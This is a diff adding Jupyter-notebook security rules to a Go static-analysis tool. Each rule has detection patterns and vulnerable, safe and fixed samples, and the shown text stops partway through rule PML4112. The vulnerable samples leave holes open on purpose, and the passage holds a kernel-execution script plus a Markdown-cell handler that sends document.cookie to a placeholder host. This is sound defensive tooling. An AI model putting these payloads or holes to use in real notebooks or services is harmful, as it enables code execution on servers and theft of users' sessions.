@@ -7,9 +7,148 @@ import "github.com/pyguard/pyguardml/checks"
 // Checks returns the part's checks, ordered by id. The slice is the caller's.
 func Checks() []checks.Check {
 	return []checks.Check{
-		backendNamed, // PML4103
-		formSecret,   // PML4118
+		notebookRun,    // PML4101
+		outputDrives,   // PML4102
+		backendNamed,   // PML4103
+		shellBuilt,     // PML4104
+		kernelCode,     // PML4105
+		widgetMarkup,   // PML4106
+		bundleShown,    // PML4107
+		markdownScript, // PML4108
+		pictureScript,  // PML4110
+		htmlShown,      // PML4111
+		scriptBuilt,    // PML4112
+		formSecret,     // PML4118
 	}
+}
+
+var infoPML4101 = &checks.Info{
+	ID:         "PML4101",
+	Name:       "untrusted-notebook-executed",
+	Title:      "A notebook that came from a request, an upload or a web page is executed",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.Critical,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Python, checks.Notebook},
+	Engine:     "flow",
+	Frameworks: []string{"papermill", "nbclient", "nbconvert", "nbformat", "testbook", "fastapi", "flask", "django"},
+	Reading:    "A notebook is a program. Services that preview, grade or schedule notebooks often run the file they were handed with papermill, nbclient or nbconvert's ExecutePreprocessor in their own process and with their own credentials, so whoever supplies the notebook has code execution on the server (AML.T0011.000).",
+	Detect: []string{
+		"user | upload | web -> exec: the notebook (a path, a node, or text) given to papermill.execute_notebook / papermill.execute.execute_notebook, nbclient.execute, nbclient.NotebookClient(nb).execute / async_execute, nbconvert.preprocessors.ExecutePreprocessor().preprocess, testbook.testbook",
+		"or a subprocess / os.system command `jupyter nbconvert --execute PATH`, `jupyter execute PATH`, `papermill PATH ...` whose PATH is tainted",
+		"taint passes through nbformat.read / reads / from_dict, json.loads, and through a file: bytes of an upload or a response written to a path that is then executed",
+	},
+	Ignore: []string{
+		"the path is chosen among constants, by a membership test, a constant dict, or as a bare name (os.path.basename, secure_filename, Path(x).name) joined to a fixed folder into which the same project writes no upload",
+		"papermill.execute_notebook(prepare_only=True); ClearOutputPreprocessor, TagRemovePreprocessor and HTMLExporter, which do not run code",
+		"local paths (command line, configuration); only the values of papermill's parameters come from the request",
+	},
+	ReportAt:     "the call that executes",
+	Remedy:       checks.Remedy{Safe: false, Edit: "papermill: add `prepare_only=True`; replace `ExecutePreprocessor(...)` by `ClearOutputPreprocessor()` and its import; replace `NotebookClient(nb, ...).execute()` or `nbclient.execute(nb, ...)` by `nb` (delete it where it is a statement of its own); delete `--execute` from a command"},
+	CWE:          []string{"CWE-94", "CWE-829"},
+	OWASPLLM:     []string{"LLM03"},
+	OWASPAgentic: []string{"ASI05"},
+	ATLAS:        []string{"AML.T0011.000", "AML.T0049"},
+	NIST:         []string{"NISTAML.05"},
+	Vulnerable: `import tempfile
+import papermill as pm
+from fastapi import FastAPI, UploadFile
+
+app = FastAPI()
+
+@app.post("/run")
+async def run(notebook: UploadFile):
+    with tempfile.NamedTemporaryFile(suffix=".ipynb", delete=False) as out:
+        out.write(await notebook.read())
+    pm.execute_notebook(out.name, out.name, kernel_name="python3")  # want
+    return {"result": out.name}
+`,
+	Safe: `import papermill as pm
+from fastapi import FastAPI, HTTPException
+
+app = FastAPI()
+REPORTS = {"churn": "notebooks/churn.ipynb", "revenue": "notebooks/revenue.ipynb"}
+
+@app.post("/run/{report}")
+async def run(report: str, month: int):
+    if report not in REPORTS:
+        raise HTTPException(404)
+    pm.execute_notebook(REPORTS[report], f"out/{report}.ipynb", parameters={"month": month})
+    return {"result": report}
+`,
+	Fixed: `import tempfile
+import papermill as pm
+from fastapi import FastAPI, UploadFile
+
+app = FastAPI()
+
+@app.post("/run")
+async def run(notebook: UploadFile):
+    with tempfile.NamedTemporaryFile(suffix=".ipynb", delete=False) as out:
+        out.write(await notebook.read())
+    pm.execute_notebook(out.name, out.name, kernel_name="python3", prepare_only=True)
+    return {"result": out.name}
+`,
+}
+
+var infoPML4102 = &checks.Info{
+	ID:         "PML4102",
+	Name:       "notebook-output-drives-kernel",
+	Title:      "A stored notebook output holds script that runs code in the kernel, reads cookies or calls the Jupyter server",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.High,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Notebook},
+	Engine:     "notebook",
+	Frameworks: []string{"ipython"},
+	Reading:    "Outputs travel inside the file. HTML and JavaScript outputs of a trusted notebook run in the page of the Jupyter server, where script can execute code in the kernel, steal the session cookie or drive the contents and terminal APIs, without one code cell showing it. Plots and tables carry script too, so only script with one of these exact signs is reported.",
+	Detect: []string{
+		"an output (display_data, execute_result, update_display_data; nbformat 3 keys `html` and `javascript`) of type text/html with a <script> element, an on* attribute or a javascript: URL, or of type application/javascript",
+		"the script text holds one of: (a) `kernel.execute(`, `.requestExecute(` or `kernel.invokeFunction(` with a string literal that holds os.system, subprocess, __import__, urllib, requests., socket, base64, exec(, eval(, open(, get_ipython, or starts with ! or %; (b) document.cookie read together with fetch(, XMLHttpRequest, sendBeacon(, WebSocket(, new Image or an assignment to .src or location, or a localStorage / sessionStorage item that stands in the argument of such a send or in the assigned URL; (c) an URL path with /api/contents, /api/kernels, /api/sessions or /api/terminals in a fetch, XMLHttpRequest, $.ajax, $.post or $.get call",
+	},
+	Ignore: []string{
+		"script of bokeh, holoviews, plotly, altair / vega, matplotlib (nbagg), ipywidgets, tqdm, pandas and Colab's table buttons: `cell.notebook.kernel.execute(cmd_clean ...)`, comm messages, `google.colab.kernel.invokeFunction('convertToInteractive', ...)`, requirejs and CDN loads have none of the signs",
+		"a <script> of 50,000 or more characters is an inlined library (plotly.js, BokehJS, DataTables, vega carry localStorage and XMLHttpRequest) and is searched for (a) and (c) only",
+		"localStorage or sessionStorage used for themes and settings, whatever else the script loads",
+		"signs that stand in text (an escaped listing, <pre>, <code>, text/plain), not in script",
+	},
+	ReportAt:     "the cell whose output it is",
+	Remedy:       checks.Remedy{Safe: true, Edit: "set the cell's `\"outputs\"` to `[]` and its `\"execution_count\"` to `null`"},
+	CWE:          []string{"CWE-79", "CWE-506"},
+	OWASPLLM:     []string{"LLM05"},
+	OWASPAgentic: []string{"ASI05"},
+	ATLAS:        []string{"AML.T0011.000", "AML.T0067"},
+	NIST:         []string{"NISTAML.05"},
+	Vulnerable: `-- explore.ipynb --
+{"cells": [
+ {"cell_type": "markdown", "id": "c899e9da", "metadata": {}, "source": ["# Data exploration"]},
+ {"cell_type": "code", "id": "ca37e4cd", "metadata": {}, "execution_count": 1, "outputs": [{"data": {"text/html": ["<table><tr><td>0.5</td></tr></table>\n", "<script>Jupyter.notebook.kernel.execute(\"import os; os.system('echo pwned')\")</script>"], "text/plain": ["<IPython.core.display.HTML object>"]}, "metadata": {}, "output_type": "execute_result", "execution_count": 1}], "source": ["df.describe()"]}
+],
+ "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python"}},
+ "nbformat": 4, "nbformat_minor": 5}
+-- WANT --
+explore.ipynb:2
+`,
+	Safe: `-- explore.ipynb --
+{"cells": [
+ {"cell_type": "markdown", "id": "c899e9da", "metadata": {}, "source": ["# Data exploration"]},
+ {"cell_type": "code", "id": "ca37e4cd", "metadata": {}, "execution_count": 1, "outputs": [{"data": {"text/html": ["<table onclick=\"this.classList.toggle('wide')\"><tr><td>0.5</td></tr></table>\n", "<script>const cell = Jupyter.notebook.get_selected_cell(); cell.notebook.kernel.execute(\"from bokeh.io.state import curstate; curstate()\");</script>"], "text/plain": ["<IPython.core.display.HTML object>"]}, "metadata": {}, "output_type": "execute_result", "execution_count": 1}], "source": ["df.describe()"]}
+],
+ "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python"}},
+ "nbformat": 4, "nbformat_minor": 5}
+`,
+	Fixed: `-- explore.ipynb --
+{"cells": [
+ {"cell_type": "markdown", "id": "c899e9da", "metadata": {}, "source": ["# Data exploration"]},
+ {"cell_type": "code", "id": "ca37e4cd", "metadata": {}, "execution_count": null, "outputs": [], "source": ["df.describe()"]}
+],
+ "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python"}},
+ "nbformat": 4, "nbformat_minor": 5}
+`,
 }
 
 var infoPML4103 = &checks.Info{
@@ -89,6 +228,502 @@ def plot():
     plt.savefig(out, format="png")
     out.seek(0)
     return send_file(out, mimetype="image/png")
+`,
+}
+
+var infoPML4104 = &checks.Info{
+	ID:         "PML4104",
+	Name:       "ipython-shell-injection",
+	Title:      "Untrusted text becomes part of a shell line or magic that IPython runs",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.High,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Python, checks.Notebook},
+	Engine:     "flow",
+	Frameworks: []string{"ipython", "pandas", "datasets", "openai"},
+	Reading:    "`!cmd {x}`, `get_ipython().system(...)` and run_line_magic hand text to a shell. IPython expands {x} and $x without quoting, so a URL column of a downloaded table, a file name from an archive or a model's answer that holds `;` or `$(...)` runs as a command in the notebook.",
+	Detect: []string{
+		"user | upload | web | document | retrieved | llm | tool | dataset -> shell: IPython.get_ipython().system / getoutput / getoutput_pexpect / system_raw / system_piped, .run_line_magic(\"sx\" | \"system\" | \"sc\" | \"run\", X), .run_cell_magic(\"bash\" | \"sh\" | \"script\" | \"system\", X, ...), the same methods of IPython.core.interactiveshell.InteractiveShell.instance()",
+		"or a notebook line `!cmd`, `!!cmd` or `y = !cmd` that holds {EXPR} or $NAME with a tainted value",
+		"dataset means records read from a URL, a hub or an archive that the notebook downloads (pandas.read_csv(\"http...\"), load_dataset)",
+	},
+	Ignore: []string{
+		"shlex.quote on the value, int() / float(), a membership test, a value folded to a constant",
+		"values of local: command line, input(), widgets of the notebook's own author, os.listdir of own folders",
+		"a list passed to subprocess.run",
+		"pip install of a name from a model's answer (PML5109)",
+	},
+	ReportAt:     "the call, or the shell line",
+	Specializes:  []string{"PML1155"},
+	Remedy:       checks.Remedy{Safe: false, Edit: "wrap the value in `shlex.quote(...)` and add `import shlex`; `$NAME` becomes `{shlex.quote(NAME)}`; quotes written around the placeholder go"},
+	CWE:          []string{"CWE-78"},
+	OWASPLLM:     []string{"LLM05"},
+	OWASPAgentic: []string{"ASI05"},
+	ATLAS:        []string{"AML.T0050", "AML.T0102"},
+	NIST:         []string{"NISTAML.05"},
+	Vulnerable: `import pandas as pd
+from IPython import get_ipython
+
+videos = pd.read_csv("https://data.example.org/clips/index.csv")
+shell = get_ipython()
+for name, url in zip(videos["name"], videos["url"]):
+    shell.system(f"ffmpeg -i {url} -r 1 frames/{name}_%04d.png")  # want
+`,
+	Safe: `import shlex
+import pandas as pd
+from IPython import get_ipython
+
+videos = pd.read_csv("https://data.example.org/clips/index.csv")
+shell = get_ipython()
+for number, url in enumerate(videos["url"]):
+    shell.system(f"ffmpeg -i {shlex.quote(url)} -r 1 frames/{number}_%04d.png")
+`,
+	Fixed: `import shlex
+import pandas as pd
+from IPython import get_ipython
+
+videos = pd.read_csv("https://data.example.org/clips/index.csv")
+shell = get_ipython()
+for name, url in zip(videos["name"], videos["url"]):
+    shell.system(f"ffmpeg -i {shlex.quote(url)} -r 1 frames/{shlex.quote(name)}_%04d.png")
+`,
+}
+
+var infoPML4105 = &checks.Info{
+	ID:         "PML4105",
+	Name:       "kernel-code-by-string-format",
+	Title:      "Untrusted text is formatted into code that a Jupyter kernel runs",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.Critical,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Python, checks.Notebook},
+	Engine:     "flow",
+	Frameworks: []string{"jupyter_client", "ipython", "nbformat", "papermill", "fastapi", "flask", "gradio", "streamlit"},
+	Reading:    "Notebook services drive kernels by sending source text. A file name or column that is pasted between quotes into that text can close the quote and go on as code. papermill does it unseen: it writes each parameter as `NAME = VALUE`, quoting the value but not the name, so a parameters dict taken whole from a request is code. A service that runs code as its declared purpose is not meant: only text spliced into the service's own code is reported.",
+	Detect: []string{
+		"user | upload | web | document | retrieved | llm | tool -> a part (f-string, +, %, .format, Template) of otherwise constant code given to jupyter_client KernelClient / BlockingKernelClient / AsyncKernelClient .execute or .execute_interactive (also from manager.start_new_kernel(), KernelManager().client()), InteractiveShell.run_cell / run_cell_async / ex / ev, or nbformat.v4.new_code_cell(SOURCE) of a notebook that is executed",
+		"or user -> the whole dict given as parameters= of papermill.execute_notebook (names from the request)",
+	},
+	Ignore: []string{
+		"`!r`, repr(), json.dumps on the value, int() / float(), an identifier test (str.isidentifier with raise) or membership test",
+		"the whole code is the user's (code interpreters, which need a sandbox)",
+		"papermill parameters whose names are constants in the code, or filtered by a test on the name",
+		"KernelClient.execute(..., user_expressions=)",
+	},
+	ReportAt:     "the interpolated expression, or the parameters argument",
+	Specializes:  []string{"PML1152"},
+	Remedy:       checks.Remedy{Safe: false, Edit: "replace `{X}` by `{X!r}` and drop the quotes around it (`+ X +` becomes `+ repr(X) +`); a parameters dict D becomes `{k: v for k, v in D.items() if k.isidentifier()}`"},
+	CWE:          []string{"CWE-94"},
+	OWASPLLM:     []string{"LLM05"},
+	OWASPAgentic: []string{"ASI05"},
+	ATLAS:        []string{"AML.T0049", "AML.T0050"},
+	NIST:         []string{"NISTAML.05"},
+	Vulnerable: `import streamlit as st
+from jupyter_client.manager import start_new_kernel
+
+if "kernel" not in st.session_state:
+    st.session_state.kernel = start_new_kernel(kernel_name="python3")
+manager, client = st.session_state.kernel
+column = st.text_input("Column")
+if column:
+    client.execute("import pandas as pd; df = pd.read_parquet('sales.parquet')")
+    client.execute(f"df['{column}'].plot.hist()")  # want
+`,
+	Safe: `import streamlit as st
+from jupyter_client.manager import start_new_kernel
+
+if "kernel" not in st.session_state:
+    st.session_state.kernel = start_new_kernel(kernel_name="python3")
+manager, client = st.session_state.kernel
+column = st.selectbox("Column", ["price", "units", "returns"])
+bins = int(st.number_input("Bins", 5, 50))
+if column in ("price", "units", "returns"):
+    client.execute("import pandas as pd; df = pd.read_parquet('sales.parquet')")
+    client.execute(f"df['{column}'].plot.hist(bins={bins})")
+`,
+	Fixed: `import streamlit as st
+from jupyter_client.manager import start_new_kernel
+
+if "kernel" not in st.session_state:
+    st.session_state.kernel = start_new_kernel(kernel_name="python3")
+manager, client = st.session_state.kernel
+column = st.text_input("Column")
+if column:
+    client.execute("import pandas as pd; df = pd.read_parquet('sales.parquet')")
+    client.execute(f"df[{column!r}].plot.hist()")
+`,
+}
+
+var infoPML4106 = &checks.Info{
+	ID:         "PML4106",
+	Name:       "widget-html-untrusted",
+	Title:      "An HTML widget shows untrusted text, or stored widget state holds script or a foreign module",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.High,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Python, checks.Notebook},
+	Engine:     "flow",
+	Frameworks: []string{"ipywidgets", "panel", "anywidget"},
+	Reading:    "ipywidgets.HTML writes its value into the page as markup, and the value is kept in the notebook's widget state, so it runs again wherever the file is opened or exported. In stored state the _model_module names an npm module that the HTML manager fetches from a CDN when the notebook is viewed: a URL or path there is code from anywhere.",
+	Detect: []string{
+		"user | web | document | retrieved | llm | tool -> value (or first argument) of ipywidgets.HTML / HTMLMath, an assignment to its .value, or description= of a widget with description_allow_html=True",
+		"notebook metadata `widgets` -> `application/vnd.jupyter.widget-state+json` -> `state`: an HTMLModel or HTMLMathModel whose value holds <script, an on* attribute or javascript: together with fetch(, XMLHttpRequest, sendBeacon(, WebSocket(, document.cookie, kernel.execute( or eval(",
+		"or an entry whose model_module, _model_module or _view_module holds `://`, starts with / or . , or has a `..` part",
+	},
+	Ignore: []string{
+		"html.escape, markupsafe.escape, bleach.clean, nh3.clean on the text; ipywidgets.Label, Text, Textarea, which show text as text",
+		"progress bars and tables in stored state: HTMLModel values without these signs, and <script> elements of 50,000 or more characters (inlined plot libraries)",
+		"anywidget's _esm and _css (the widget author's own code)",
+	},
+	ReportAt: "the argument or assigned value; for stored state the notebook",
+	Remedy:   checks.Remedy{Safe: false, Edit: "wrap the value in `html.escape(...)` and add `import html`; in stored state delete the entry of that model"},
+	CWE:      []string{"CWE-79", "CWE-829"},
+	OWASPLLM: []string{"LLM05"},
+	ATLAS:    []string{"AML.T0077", "AML.T0067"},
+	NIST:     []string{"NISTAML.05"},
+	Vulnerable: `import ipywidgets as widgets
+import requests
+from IPython.display import display
+
+abstract = requests.get("https://api.papers.example.org/v1/latest", timeout=10).json()["abstract"]
+card = widgets.HTML(description="Abstract")
+card.value = f"<div class='card'>{abstract}</div>"  # want
+display(card)
+`,
+	Safe: `import html
+import ipywidgets as widgets
+import requests
+from IPython.display import display
+
+abstract = requests.get("https://api.papers.example.org/v1/latest", timeout=10).json()["abstract"]
+card = widgets.HTML(description="Abstract")
+card.value = f"<div class='card'>{html.escape(abstract)}</div>"
+display(card, widgets.Label(value=abstract))
+`,
+	Fixed: `import html
+import ipywidgets as widgets
+import requests
+from IPython.display import display
+
+abstract = requests.get("https://api.papers.example.org/v1/latest", timeout=10).json()["abstract"]
+card = widgets.HTML(description="Abstract")
+card.value = f"<div class='card'>{html.escape(abstract)}</div>"
+display(card)
+`,
+}
+
+var infoPML4107 = &checks.Info{
+	ID:         "PML4107",
+	Name:       "raw-display-untrusted",
+	Title:      "A raw MIME bundle or a rich representation hands untrusted text to the notebook as markup",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.Medium,
+	Profile:    checks.Extended,
+	Inputs:     []checks.Input{checks.Python, checks.Notebook},
+	Engine:     "flow",
+	Frameworks: []string{"ipython"},
+	Reading:    "display(..., raw=True), publish_display_data and the _repr_html_ family put a string into the page without going through a display class. Libraries that show fetched records or model answers this way let the text of the record script the reader's session. IPython.display.HTML is PML4111, Javascript PML4112.",
+	Detect: []string{
+		"user | upload | web | document | retrieved | llm | tool | dataset -> the value of text/html, application/javascript or image/svg+xml in a dict given to IPython.display.publish_display_data, to display(..., raw=True) or to DisplayHandle.update / display with raw=True; display_html / display_svg / display_javascript(X, raw=True)",
+		"or the same value, held in an attribute, joined with markup in the return value of _repr_html_, _repr_svg_, _repr_javascript_ or _repr_mimebundle_",
+	},
+	Ignore: []string{
+		"html.escape, markupsafe.escape / Markup.format, jinja2 with autoescape, bleach.clean, nh3.clean, json.dumps for script",
+		"text/plain, text/markdown, image/png and application/json entries; numbers",
+		"HTML made by a library from data frames or figures (to_html() with its default escape, _repr_html_ of another object)",
+	},
+	ReportAt:    "the interpolated expression or the value",
+	Specializes: []string{"PML1154"},
+	Remedy:      checks.Remedy{Safe: false, Edit: "wrap it in `html.escape(str(...))` and add `import html`"},
+	CWE:         []string{"CWE-79"},
+	OWASPLLM:    []string{"LLM05"},
+	ATLAS:       []string{"AML.T0077"},
+	NIST:        []string{"NISTAML.05"},
+	Vulnerable: `from dataclasses import dataclass
+import requests
+
+@dataclass
+class Record:
+    title: str
+    score: float
+
+    def _repr_html_(self):
+        return f"<b>{self.title}</b> ({self.score:.2f})"  # want
+
+def search(query):
+    rows = requests.get("https://catalog.example.org/search", params={"q": query}, timeout=10).json()
+    return [Record(row["title"], float(row["score"])) for row in rows]
+`,
+	Safe: `from dataclasses import dataclass
+from html import escape
+import requests
+
+@dataclass
+class Record:
+    title: str
+    score: float
+
+    def _repr_html_(self):
+        return f"<b>{escape(self.title)}</b> ({self.score:.2f})"
+
+def search(query):
+    rows = requests.get("https://catalog.example.org/search", params={"q": query}, timeout=10).json()
+    return [Record(row["title"], float(row["score"])) for row in rows]
+`,
+	Fixed: `from dataclasses import dataclass
+import html
+import requests
+
+@dataclass
+class Record:
+    title: str
+    score: float
+
+    def _repr_html_(self):
+        return f"<b>{html.escape(str(self.title))}</b> ({self.score:.2f})"
+
+def search(query):
+    rows = requests.get("https://catalog.example.org/search", params={"q": query}, timeout=10).json()
+    return [Record(row["title"], float(row["score"])) for row in rows]
+`,
+}
+
+var infoPML4108 = &checks.Info{
+	ID:         "PML4108",
+	Name:       "markdown-cell-script",
+	Title:      "A Markdown cell holds script that sends data away, reads cookies or drives the kernel",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.High,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Notebook},
+	Engine:     "notebook",
+	Frameworks: []string{"nbconvert", "nbviewer"},
+	Reading:    "JupyterLab strips script from Markdown, but nbconvert's HTML export, older viewers and many sites that render notebooks do not (CVE-2021-32862): script in a Markdown cell runs in the reader's session there. It has no use in prose beyond embedding, so handlers and script with network, cookie or kernel access are reported, players and badges are not.",
+	Detect: []string{
+		"the source of a markdown cell, outside fenced code, indented code and code spans, holds a <script> element, an on* attribute (onerror, onload, onclick, ...), an <iframe srcdoc> or a link or image target that starts with javascript: or data:text/html",
+		"the script, handler or target holds fetch(, XMLHttpRequest, sendBeacon(, WebSocket(, importScripts, document.cookie, localStorage, eval(, atob(, kernel.execute(, requestExecute(, top.location or parent.document; or it is a <script src> of an http: address or of a bare IP address",
+	},
+	Ignore: []string{
+		"script or handlers that only touch the page (toggle of code cells, MathJax settings, `onclick=\"this.style...\"`)",
+		"<script src> of https hosts, <iframe src> of videos and maps, badges, <style>, <img src>",
+		"the same text inside backticks, fences or HTML comments: notebooks that teach about injection",
+	},
+	ReportAt: "the cell",
+	Remedy:   checks.Remedy{Safe: true, Edit: "delete the element or attribute from the cell's source (a link keeps its text)"},
+	CWE:      []string{"CWE-79"},
+	OWASPLLM: []string{"LLM05"},
+	ATLAS:    []string{"AML.T0011.000", "AML.T0078"},
+	NIST:     []string{"NISTAML.05"},
+	Vulnerable: `-- guide.ipynb --
+{"cells": [
+ {"cell_type": "markdown", "id": "c80df94d", "metadata": {}, "source": ["# Fine-tuning guide\n", "<img src=\"x\" onerror=\"fetch('https://collect.example.net/?c=' + document.cookie)\">\n", "Run all cells."]},
+ {"cell_type": "code", "id": "cf84bef3", "metadata": {}, "execution_count": null, "outputs": [], "source": ["import transformers"]}
+],
+ "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python"}},
+ "nbformat": 4, "nbformat_minor": 5}
+-- WANT --
+guide.ipynb:1
+`,
+	Safe: "-- guide.ipynb --\n{\"cells\": [\n {\"cell_type\": \"markdown\", \"id\": \"c05fef84\", \"metadata\": {}, \"source\": [\"# Fine-tuning guide\\n\", \"<iframe width=\\\"560\\\" height=\\\"315\\\" src=\\\"https://www.youtube.com/embed/abc123\\\"></iframe>\\n\", \"Never render `<img src=\\\"x\\\" onerror=\\\"fetch('https://collect.example.net/?c=' + document.cookie)\\\">` from a stranger.\"]},\n {\"cell_type\": \"code\", \"id\": \"cf84bef3\", \"metadata\": {}, \"execution_count\": null, \"outputs\": [], \"source\": [\"import transformers\"]}\n],\n \"metadata\": {\"kernelspec\": {\"display_name\": \"Python 3\", \"language\": \"python\", \"name\": \"python3\"}, \"language_info\": {\"name\": \"python\"}},\n \"nbformat\": 4, \"nbformat_minor\": 5}\n",
+	Fixed: `-- guide.ipynb --
+{"cells": [
+ {"cell_type": "markdown", "id": "c80df94d", "metadata": {}, "source": ["# Fine-tuning guide\n", "<img src=\"x\">\n", "Run all cells."]},
+ {"cell_type": "code", "id": "cf84bef3", "metadata": {}, "execution_count": null, "outputs": [], "source": ["import transformers"]}
+],
+ "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, "language_info": {"name": "python"}},
+ "nbformat": 4, "nbformat_minor": 5}
+`,
+}
+
+var infoPML4110 = &checks.Info{
+	ID:         "PML4110",
+	Name:       "svg-script-in-notebook",
+	Title:      "An SVG output carries script that calls out, or untrusted SVG is displayed inline",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.High,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Python, checks.Notebook},
+	Engine:     "flow",
+	Frameworks: []string{"ipython"},
+	Reading:    "Inline SVG is markup of the page: its <script>, event attributes and foreignObject run with the page's rights. IPython.display.SVG embeds the text as it is, and an image/svg+xml output or attachment keeps it in the file. The same picture in an <img> element cannot run script.",
+	Detect: []string{
+		"user | upload | web | document | llm | tool -> the data (first argument or data=) of IPython.display.SVG",
+		"an output or attachment of type image/svg+xml that holds <script>, an on* attribute, a javascript: target or foreignObject, whose code holds fetch(, XMLHttpRequest, sendBeacon(, WebSocket(, document.cookie, localStorage, eval(, atob(, kernel.execute( or requestExecute(; or a <script> whose href / xlink:href is an http: address or a bare IP address",
+	},
+	Ignore: []string{
+		"SVG of matplotlib, graphviz, plotly, shap and pygal (with its https tooltip script): none of the signs",
+		"SVG(filename=) of a constant path, SVG text built by the code or returned by a library call (graphviz .pipe, chess.svg.board)",
+		"text cleaned with nh3 / bleach / lxml by removing script and on* attributes, or shown through <img>",
+	},
+	ReportAt: "the argument; in a notebook the cell",
+	Remedy:   checks.Remedy{Safe: false, Edit: "replace `SVG(X)` by `HTML(f'<img src=\"data:image/svg+xml;base64,{base64.b64encode(X.encode()).decode()}\">')` (without `.encode()` where X is bytes), add `import base64` and HTML to the import of SVG; for a stored output set the cell's outputs to `[]`"},
+	CWE:      []string{"CWE-79"},
+	OWASPLLM: []string{"LLM05"},
+	ATLAS:    []string{"AML.T0077"},
+	NIST:     []string{"NISTAML.05"},
+	Vulnerable: `from IPython.display import SVG, display
+from openai import OpenAI
+
+client = OpenAI()
+
+def draw(subject):
+    reply = client.responses.create(model="gpt-4o-mini", input=f"Draw {subject} as one SVG element. Reply with SVG only.")
+    display(SVG(reply.output_text))  # want
+`,
+	Safe: `import base64
+from IPython.display import HTML, SVG, display
+from openai import OpenAI
+
+client = OpenAI()
+display(SVG(filename="assets/logo.svg"))
+
+def draw(subject):
+    reply = client.responses.create(model="gpt-4o-mini", input=f"Draw {subject} as one SVG element. Reply with SVG only.")
+    picture = base64.b64encode(reply.output_text.encode()).decode()
+    display(HTML(f'<img src="data:image/svg+xml;base64,{picture}">'))
+`,
+	Fixed: `import base64
+from IPython.display import HTML, SVG, display
+from openai import OpenAI
+
+client = OpenAI()
+
+def draw(subject):
+    reply = client.responses.create(model="gpt-4o-mini", input=f"Draw {subject} as one SVG element. Reply with SVG only.")
+    display(HTML(f'<img src="data:image/svg+xml;base64,{base64.b64encode(reply.output_text.encode()).decode()}">'))
+`,
+}
+
+var infoPML4111 = &checks.Info{
+	ID:         "PML4111",
+	Name:       "display-html-untrusted",
+	Title:      "Untrusted text is shown with IPython.display.HTML without being escaped",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
+	Class:      checks.Vulnerability,
+	Severity:   checks.Medium,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Python, checks.Notebook},
+	Engine:     "flow",
+	Frameworks: []string{"ipython", "pandas", "requests", "openai", "anthropic", "langchain", "datasets"},
+	Reading:    "HTML(...) puts the string into the notebook page, where script can run code in the kernel. Fetched pages, retrieved passages and model answers are written by others; showing them as markup also keeps the payload in the saved file. DataFrame.to_html(escape=False) switches off the escaping that makes tables safe.",
+	Detect: []string{
+		"user | upload | web | document | retrieved | llm | tool -> the data (first argument or data=) of IPython.display.HTML / IPython.core.display.HTML, whole or as a part of markup",
+		"or HTML(D.to_html(escape=False)), also through Styler.format(escape=None).to_html(), where D's cells come from those labels or from a data set read from a URL or a hub",
+	},
+	Ignore: []string{
+		"html.escape, markupsafe.escape, bleach.clean, nh3.clean, jinja2 with autoescape, `<iframe sandbox srcdoc>`",
+		"markup made by a library that escapes: to_html() with its default, Styler.to_html(), displacy.render, markdown through a sanitizer, figure.to_html()",
+		"numbers, dates, and values from local files or constants; text shown with Markdown, Pretty or print",
+	},
+	ReportAt:    "the interpolated expression or the argument",
+	Specializes: []string{"PML1154"},
+	Remedy:      checks.Remedy{Safe: false, Edit: "a part of markup is wrapped in `html.escape(...)`; a whole text X becomes `f'<iframe sandbox width=\"100%\" height=\"400\" srcdoc=\"{html.escape(X)}\"></iframe>'`; add `import html`; delete `escape=False`"},
+	CWE:         []string{"CWE-79"},
+	OWASPLLM:    []string{"LLM05"},
+	ATLAS:       []string{"AML.T0077", "AML.T0067"},
+	NIST:        []string{"NISTAML.05"},
+	Vulnerable: `from IPython.display import HTML, display
+from langchain_chroma import Chroma
+from langchain_openai import OpenAIEmbeddings
+
+store = Chroma("tickets", OpenAIEmbeddings())
+
+def show(question):
+    for doc in store.similarity_search(question, k=3):
+        display(HTML(f"<blockquote>{doc.page_content}</blockquote>"))  # want
+`,
+	Safe: `import html
+from IPython.display import HTML, Markdown, display
+from langchain_chroma import Chroma
+from langchain_openai import OpenAIEmbeddings
+
+store = Chroma("tickets", OpenAIEmbeddings())
+
+def show(question):
+    for rank, doc in enumerate(store.similarity_search(question, k=3)):
+        display(HTML(f"<h4>{rank}</h4><blockquote>{html.escape(doc.page_content)}</blockquote>"))
+`,
+	Fixed: `import html
+from IPython.display import HTML, display
+from langchain_chroma import Chroma
+from langchain_openai import OpenAIEmbeddings
+
+store = Chroma("tickets", OpenAIEmbeddings())
+
+def show(question):
+    for doc in store.similarity_search(question, k=3):
+        display(HTML(f"<blockquote>{html.escape(doc.page_content)}</blockquote>"))
+`,
+}
+
+var infoPML4112 = &checks.Info{
+	ID:         "PML4112",
+	Name:       "javascript-cell-untrusted",
+	Title:      "Notebook code builds JavaScript from untrusted text, or a cell's script steals from the session",
+	Part:       "4.1",
+	Group:      "Notebook Execution Risks",
